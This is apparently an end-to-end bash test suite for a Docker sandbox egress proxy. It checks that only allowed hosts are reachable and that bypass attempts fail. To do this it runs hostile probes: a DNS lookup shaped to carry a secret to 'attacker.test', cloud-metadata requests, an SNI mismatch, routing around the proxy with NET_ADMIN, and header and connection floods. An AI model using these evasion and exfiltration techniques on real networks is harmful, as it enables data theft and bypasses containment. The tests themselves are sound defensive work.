#!/usr/bin/env bash
# run --allow-host against a local "internet" the suite makes: web servers on a network of their
# own under several names. The sandbox reaches only what the rules allow, through the proxy;
# a denied name, a port outside the rule, a name that resolves to loopback, a direct connection
# (TCP and UDP) and a DNS lookup all fail; a sandbox with NET_ADMIN cannot route through the proxy's
# container, and a neighbour on the egress network cannot use the proxy; each decision is a line of
# --egress-log and the summary counts them; run --check reports the same from inside; nothing is
# left behind (proxy, network, image aside).
source "$(dirname "$0")/common.sh"

id=$$$RANDOM
net=sbx-e2e-internet-$id
web=sbx-e2e-web-$id
on_exit "docker rm -f $web >/dev/null 2>&1"
on_exit "docker network rm $net >/dev/null 2>&1"
docker network create "$net" >/dev/null
docker run -d --name "$web" --network "$net" --network-alias web.test --network-alias a.mirror.test \
  --network-alias other.test "$IMAGE" \
  sh -c 'mkdir -p /tmp/www && echo hello-from-web > /tmp/www/index.html && (httpd -p 8080 -h /tmp/www) && exec httpd -f -p 80 -h /tmp/www' >/dev/null
web_ip=$(docker inspect -f "{{(index .NetworkSettings.Networks \"$net\").IPAddress}}" "$web")
[ -n "$web_ip" ] || fail "the web server has no address"
networks_before=$(docker network ls -q --filter label=docker-sandbox.managed=true | sort)

# Podman 4.3's CNI networks have no DNS (no dnsname plugin): there the proxy cannot resolve the web
# server's aliases, so the cases that need a name are left out and an address rule stands in.
host=web.test
rule=web.test
if engine_is_podman; then
  host=$web_ip
  rule=$web_ip:80
fi

mkdir project && cd project
sandbox() { # RULES... -- COMMAND [FLAGS...]: one run with its egress log in $TEST_DIR/log
  local rules=()
  while [ "$1" != -- ]; do rules+=(--allow-host "$1"); shift; done
  shift
  local command=$1
  shift
  run_capture docker sandbox run "${rules[@]}" "$@" --egress-network "$net" --egress-log "$TEST_DIR/log" "$IMAGE" sh -c "$command"
  log=$(cat "$TEST_DIR/log" 2>/dev/null || true)
}

if ! engine_is_podman; then
  sandbox web.test -- 'wget -qO- http://web.test/'
  expect_eq "$rc" 0 "an allowed name ($err)"
  expect_eq "$out" hello-from-web "what it fetched"
  expect_contains "$err" "egress: 1 allowed, 0 denied" "the summary"
  expect_contains "$log" "\"method\":\"GET\",\"host\":\"web.test\",\"port\":80,\"address\":\"$web_ip\",\"decision\":\"allowed\"" "the log line"

  sandbox web.test -- 'wget -qO- http://other.test/'
  expect_eq "$rc" 1 "a name no rule allows"
  expect_contains "$err" "403" "the proxy's answer"
  expect_contains "$err" "egress: 0 allowed, 1 denied (other.test:80)" "the summary"
  expect_contains "$log" '"host":"other.test","port":80,"address":"","decision":"denied","reason":"no rule allows other.test:80"' \
    "the log line: refused before it was resolved"

  sandbox '*.mirror.test' -- 'wget -qO- http://a.mirror.test/ && ! wget -qO- http://web.test/'
  expect_eq "$rc" 0 "a wildcard allows a name under it, not another ($err)"
  expect_contains "$err" "egress: 1 allowed, 1 denied (web.test:80)" "the summary"

  sandbox web.test:8080 -- 'wget -qO- http://web.test:8080/ && ! wget -qO- http://web.test/'
  expect_eq "$rc" 0 "a port rule allows that port only ($err)"
  expect_contains "$log" '"port":8080,' "the allowed port's line"
  expect_contains "$log" '"reason":"no rule allows web.test:80"' "the other port's line"
fi

sandbox "$web_ip:80" -- "wget -qO- http://$web_ip/"
expect_eq "$rc" 0 "an address rule ($err)"
expect_eq "$out" hello-from-web "what it fetched by address"

sandbox localhost -- 'wget -qO- http://localhost/'
expect_eq "$rc" 1 "an allowed name that resolves to loopback"
expect_contains "$log" '"decision":"denied","reason":"localhost resolves to 127.0.0.1, a loopback address' "why"

sandbox "$rule" -- "printf 'CONNECT $host:80 HTTP/1.1\r\n\r\nGET / HTTP/1.0\r\n\r\n' | nc docker-sandbox-egress 3128"
expect_eq "$rc" 0 "a CONNECT tunnel ($err)"
expect_contains "$out" "HTTP/1.1 200 Connection established" "the tunnel"
expect_contains "$out" "hello-from-web" "what came through it"

# A tunnel to an allowed name whose TLS ClientHello (a real one, from the host's Python) asks for
# another host, as a site on a shared address would be reached, is closed before a byte goes up.
if ! engine_is_podman; then
  python3 -c 'import ssl, sys
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = context.wrap_bio(incoming, outgoing, server_hostname="evil.test")
try:
    tls.do_handshake()
except ssl.SSLWantReadError:
    sys.stdout.buffer.write(outgoing.read())' > hello.bin
  sandbox web.test -- "{ printf 'CONNECT web.test:80 HTTP/1.1\r\n\r\n'; sleep 1; cat hello.bin; sleep 2; } | nc docker-sandbox-egress 3128"
  expect_contains "$out" "HTTP/1.1 200 Connection established" "the tunnel"
  expect_contains "$log" '"decision":"denied","reason":"the tunnel to web.test:80 was closed: its TLS ClientHello asks for evil.test, and no rule allows evil.test:80","bytes_up":0,' \
    "the log line of a ClientHello for another host"
  expect_contains "$err" "egress: 0 allowed, 1 denied (web.test:80)" "the summary"
  rm hello.bin
fi

# A UDP listener on the egress network (the Debian image's python3: busybox's nc has no UDP), which
# prints every datagram it gets; a plain container's datagram reaches it (the control).
debian=docker-sandbox-debian:latest
bash "$SANDBOX_SOURCE_DIR/tests/tools/make-debian-image.sh" "$debian" >/dev/null
listener=sbx-e2e-udp-$id
on_exit "docker rm -f $listener >/dev/null 2>&1"
docker run -d --name "$listener" --network "$net" "$debian" python3 -u -c "import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(('0.0.0.0', 53))
print('listening', flush=True)
while True:
    print('got', s.recvfrom(512)[0], flush=True)" >/dev/null
listener_ip=$(docker inspect -f "{{(index .NetworkSettings.Networks \"$net\").IPAddress}}" "$listener")
for _ in $(seq 50); do docker logs "$listener" 2>&1 | grep -q listening && break; sleep 0.2; done
docker run --rm --network "$net" "$IMAGE" sh -c "nslookup control-$id.test $listener_ip >/dev/null 2>&1; true"
for _ in $(seq 25); do docker logs "$listener" 2>&1 | grep -q "control-$id" && break; sleep 0.2; done
expect_contains "$(docker logs "$listener" 2>&1)" "control-$id" "a plain container's datagram reaches the listener (the control)"

# Around the proxy: the allowed address itself, directly, over TCP and UDP (a DNS query sent to the
# listener); a DNS lookup of a name that would carry a secret out; the metadata address.
sandbox "$rule" -- "! nc -w 3 $web_ip 80 </dev/null && ! nslookup direct-$id.test $listener_ip >/dev/null 2>&1; \
  ! nslookup secret-$id.attacker.test >/dev/null 2>&1 && ! wget -qO- http://169.254.169.254/ >/dev/null 2>&1; echo done"
expect_eq "$rc" 0 "the direct attempts ($err)"
expect_eq "$out" done "every direct attempt failed"
expect_contains "$err" "egress: 0 allowed, 1 denied (169.254.169.254:80)" "only the proxy saw the metadata request"

# Through the proxy's container as a router: a sandbox given NET_ADMIN routes its packets to the
# proxy's address. The proxy's namespace would inherit the host's ip_forward=1 and pass them on to
# the egress network (one way: nothing routes the replies back, so a datagram is what gets out);
# the plugin sets it to 0, and the proxy refuses to run where it is not.
sandbox "$rule" -- "ip route add default via \$(awk '/docker-sandbox-egress/ {print \$1; exit}' /etc/hosts) && \
  nslookup routed-$id.test $listener_ip >/dev/null 2>&1; ip route | grep -c default" --user 0:0 --cap-add NET_ADMIN
expect_eq "$out" 1 "the sandbox routed through the proxy ($err)"
sleep 1
case "$(docker logs "$listener" 2>&1)" in *"direct-$id"* | *"routed-$id"*) fail "a datagram got past the proxy: $(docker logs "$listener" 2>&1)" ;; esac

# The proxy's own walls, read while a sandbox runs: it listens on the internal network alone (a
# neighbour on the egress network is refused there, where the web server answers it), its namespace
# forwards nothing, and it looks names up with no search domain.
docker sandbox run --allow-host "$rule" --egress-network "$net" "$IMAGE" sleep 10 >/dev/null 2>&1 &
runner=$!
on_exit "kill $runner 2>/dev/null; wait $runner 2>/dev/null; docker network rm $net >/dev/null 2>&1"
proxy=""
for _ in $(seq 100); do
  proxy=$(docker ps -q --filter label=docker-sandbox.role=egress-proxy --filter status=running | head -1)
  [ -z "$proxy" ] || break
  sleep 0.1
done
[ -n "$proxy" ] || fail "no proxy ran"
proxy_ip=$(docker inspect -f "{{(index .NetworkSettings.Networks \"$net\").IPAddress}}" "$proxy")
[ -n "$proxy_ip" ] || fail "the proxy has no address on the egress network $net"
reached=$(docker run --rm --network "$net" "$IMAGE" sh -c "wget -qO- http://$web_ip/; \
  printf 'GET http://$host/ HTTP/1.0\r\n\r\n' | nc -w 2 $proxy_ip 3128 2>/dev/null" 2>&1 || true)
expect_eq "$reached" hello-from-web "a neighbour on the egress network reaches the web server, not the proxy at $proxy_ip"
pid=$(docker inspect -f '{{.State.Pid}}' "$proxy")
expect_eq "$(nsenter -t "$pid" -n cat /proc/sys/net/ipv4/ip_forward)" 0 "the proxy's namespace forwards nothing"
if grep -q '^search' "/proc/$pid/root/etc/resolv.conf"; then
  fail "the proxy looks names up under search domains: $(cat "/proc/$pid/root/etc/resolv.conf")"
fi
wait "$runner" || fail "the sleeping sandbox failed"

# The engine host: a service of its own listening on all addresses (in a container on the host's
# network, so on whichever host the engine runs), which a plain container on a bridge reaches at its
# gateway. From the sandbox it is out of reach at the internal network's gateway (the default route,
# or the first address of its subnet) and at the egress network's.
port=$((20000 + RANDOM % 10000))
host_service=sbx-e2e-host-service-$id
on_exit "docker rm -f $host_service >/dev/null 2>&1"
docker run -d --name "$host_service" --network host "$IMAGE" \
  sh -c "while true; do echo host-service | nc -l -p $port; done" >/dev/null
net_gateway=$(docker network inspect -f '{{range .IPAM.Config}}{{.Gateway}}{{end}}' "$net")
reached=$(docker run --rm --network "$net" "$IMAGE" sh -c "sleep 1; nc -w 3 $net_gateway $port </dev/null" 2>&1 || true)
expect_eq "$reached" host-service "the host's service from a plain container at $net_gateway (the control)"
sandbox "$rule" -- "own=\$(ip -4 addr show eth0 | sed -n 's|.*inet \\([0-9.]*\\)/.*|\\1|p'); \
  for a in \$(ip route | sed -n 's/^default via \\([0-9.]*\\).*/\\1/p') \${own%.*}.1 $net_gateway; do \
    echo \"tried \$a\"; nc -w 2 \$a $port </dev/null; done"
expect_eq "$rc" 1 "the engine host's service from the sandbox ($out)"
expect_contains "$out" "tried $net_gateway" "the attempts"
case "$out" in *host-service*) fail "the sandbox reached a service of the engine host: $out" ;; esac

# The environment the sandbox gets, and its network: internal, alone with the proxy.
sandbox "$rule" -- 'env | grep -i _proxy= | sort; cat /etc/hosts | grep docker-sandbox-egress'
for var in HTTP_PROXY=http://docker-sandbox-egress:3128 https_proxy=http://docker-sandbox-egress:3128 \
  ALL_PROXY=socks5h://docker-sandbox-egress:3128 'no_proxy=localhost,127.0.0.1,::1'; do
  expect_contains "$out" "$var" "the proxy variables"
done

# Hostile clients: a huge header and a flood of connections leave the proxy serving.
sandbox "$rule" -- "head -c 200000 /dev/zero | tr '\\\\0' a | (printf 'GET http://$host/ HTTP/1.1\r\nX: '; cat) | nc -w 3 docker-sandbox-egress 3128 | head -1; \
  for i in \$(seq 50); do (printf 'CONNECT $host:80 HTTP/1.1\r\n\r\n' | nc -w 1 docker-sandbox-egress 3128 >/dev/null &); done; \
  wget -qO- http://$host/"
expect_eq "$rc" 0 "the proxy after hostile clients ($err)"
expect_contains "$out" "431" "a head too large is refused"
expect_contains "$out" "hello-from-web" "and the proxy still serves"

# run --check: each egress probe from inside, against what the proxy's policy says of it.
run_capture docker sandbox run --check --allow-host "$host:80" --egress-network "$net" "$IMAGE"
expect_eq "$rc" 0 "run --check with --allow-host ($out $err)"
for row in "through the proxy: $host:80 *allowed *allowed *ok" \
  "through the proxy: docker-sandbox-check.invalid:443 *denied *denied *ok" \
  "through the proxy: 127.0.0.1:80 *denied *denied *ok" "through the proxy: 169.254.169.254:80 *denied *denied *ok" \
  "directly, around the proxy: [0-9.:]* *failed *failed *ok" "DNS lookup of docker-sandbox-check-[0-9a-f]*.test *failed *failed *ok"; do
  printf '%s\n' "$out" | grep -q "$row" || fail "run --check's row [$row] in [$out]"
done

# What the project may plant at --egress-log's path: a FIFO (the run neither waits for a reader nor
# writes into it: the log is refused, the run goes on), a linked directory (refused up front).
mkfifo planted.jsonl
run_capture timeout 120 docker sandbox run --allow-host "$rule" --egress-network "$net" --egress-log planted.jsonl "$IMAGE" true
expect_eq "$rc" 0 "a FIFO at the log's path ($err)"
expect_contains "$err" "--egress-log: planted.jsonl: not a regular file" "the warning"
mkdir "$TEST_DIR/elsewhere"
ln -s "$TEST_DIR/elsewhere" logs
run_capture docker sandbox run --allow-host "$rule" --egress-network "$net" --egress-log logs/egress.jsonl "$IMAGE" true
expect_eq "$rc" 125 "a linked directory on the log's path"
expect_contains "$err" "--egress-log logs/egress.jsonl:" "the refusal"
[ -z "$(ls -A "$TEST_DIR/elsewhere")" ] || fail "the log went through the project's link"

run_capture docker sandbox run --allow-host 'bad host' "$IMAGE" true
expect_eq "$rc" 125 "a bad rule"
run_capture docker sandbox run --allow-host web.test --network bridge "$IMAGE" true
expect_eq "$rc" 125 "--allow-host with --network"
expect_contains "$err" "cannot be combined with --network bridge" "why"

expect_no_leftovers
expect_eq "$(docker network ls -q --filter label=docker-sandbox.managed=true | sort)" "$networks_before" "networks left behind"
